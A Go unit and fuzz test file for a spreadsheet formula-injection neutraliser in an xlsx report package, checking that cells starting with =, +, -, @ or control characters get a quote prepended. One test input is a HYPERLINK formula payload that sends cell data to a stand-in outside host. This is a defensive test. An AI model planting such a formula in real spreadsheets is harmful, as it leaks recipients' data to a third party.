package xlsx_test

import (
	"strings"
	"testing"

	"github.com/breachscope/breachscope/analysis/report/xlsx"
)

const dangerous = "=+-@\t\r\n"

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"alice", "alice"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x/?"&A1)`, `'=HYPERLINK("http://x/?"&A1)`},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-5", "'-5"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r\n=1", "'\r\n=1"},
		{"\n", "'\n"},
		{"'=1+1", "'=1+1"}, // already neutral: unchanged, so idempotent
		{" =1+1", " =1+1"},
		{"a=b", "a=b"},
		{"é=", "é="},
	}
	for _, tt := range tests {
		if got := xlsx.Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzNeutralise(f *testing.F) {
	for _, s := range []string{"", "x", "=1+1", "+", "-", "@", "\t", "\r", "\n", "'=", "\xff="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := xlsx.Neutralise(s)
		if got != "" && strings.IndexByte(dangerous, got[0]) >= 0 {
			t.Fatalf("Neutralise(%q) = %q starts with a formula character", s, got)
		}
		if s == "" || strings.IndexByte(dangerous, s[0]) < 0 {
			if got != s {
				t.Fatalf("Neutralise(%q) = %q, want unchanged", s, got)
			}
		} else if got != "'"+s {
			t.Fatalf("Neutralise(%q) = %q, want one quote prepended", s, got)
		}
		if again := xlsx.Neutralise(got); again != got {
			t.Fatalf("not idempotent: %q then %q", got, again)
		}
	})
}
